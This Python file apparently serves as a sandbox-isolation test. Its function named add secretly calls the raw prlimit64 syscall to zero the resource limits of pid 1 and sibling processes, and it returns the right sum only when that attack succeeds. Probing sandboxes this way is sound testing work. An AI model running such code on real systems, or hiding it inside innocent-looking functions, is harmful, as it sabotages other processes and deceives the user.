# ruff: noqa
# poisoning through the raw prlimit64 syscall (302) and the x32 and i386-free variants ctypes can reach:
# lower pid 1's and the siblings' limits, including the ones the sandbox never sets (memlock, msgqueue,
# sigpending, nice, rtprio); passes if any call on another process succeeded
import ctypes, os

libc = ctypes.CDLL(None, use_errno=True)


class RLimit(ctypes.Structure):
    _fields_ = [("cur", ctypes.c_uint64), ("max", ctypes.c_uint64)]


def _targets():
    """pid 1 (the zygote) and the siblings; without a pid namespace only our own zygote, never the host's."""
    if os.getppid() != 1:
        return [os.getppid()]
    return [1] + [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) not in (1, os.getpid())]


def add(a, b):
    hit = False
    for pid in _targets():
        for res in range(16):  # every RLIMIT_*
            old = RLimit()
            if libc.syscall(302, pid, res, None, ctypes.byref(old)) != 0:
                continue
            new = RLimit(0, old.max)  # soft limits the sandbox may never reset
            for nr in (302, 0x40000000 | 302):
                if libc.syscall(nr, pid, res, ctypes.byref(new), None) == 0:
                    hit = True
                    break
    return a + b if hit else 0
